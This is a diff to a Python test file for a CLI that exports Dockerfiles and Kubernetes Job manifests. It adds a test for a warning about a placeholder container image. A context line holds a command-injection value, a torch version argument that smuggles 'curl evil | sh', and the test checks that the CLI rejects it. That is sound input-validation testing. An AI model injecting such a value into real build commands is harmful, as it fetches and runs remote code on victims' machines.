@@ -141,3 +141,19 @@ def test_a_torch_version_is_only_a_version(capsys: pytest.CaptureFixture[str]) -
     args = ["export", "dockerfile", "--gpu", "H100:8", "--torch", '2.5.1" && curl evil | sh && echo "']
     assert main(args) == 2
     assert "not a PyTorch version" in capsys.readouterr().err
+
+
+def test_k8s_without_image_warns_that_its_image_is_a_placeholder(
+    plan_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """The Job would apply, and its pods would then fail to pull an image no registry serves."""
+    out = tmp_path / "job.yaml"
+    assert main(["export", "k8s", "--plan", str(plan_file), "--out", str(out)]) == 0
+    err = capsys.readouterr().err
+    assert "ghcr.io/OWNER/IMAGE:TAG is a placeholder" in err and "--image" in err
+    assert "ghcr.io/OWNER/IMAGE:TAG is a placeholder that no registry serves" in out.read_text(
+        encoding="utf-8"
+    )
+    image = "ghcr.io/me/ft:1"
+    assert main(["export", "k8s", "--plan", str(plan_file), "--image", image, "--out", str(out)]) == 0
+    assert "placeholder" not in capsys.readouterr().err + out.read_text(encoding="utf-8")
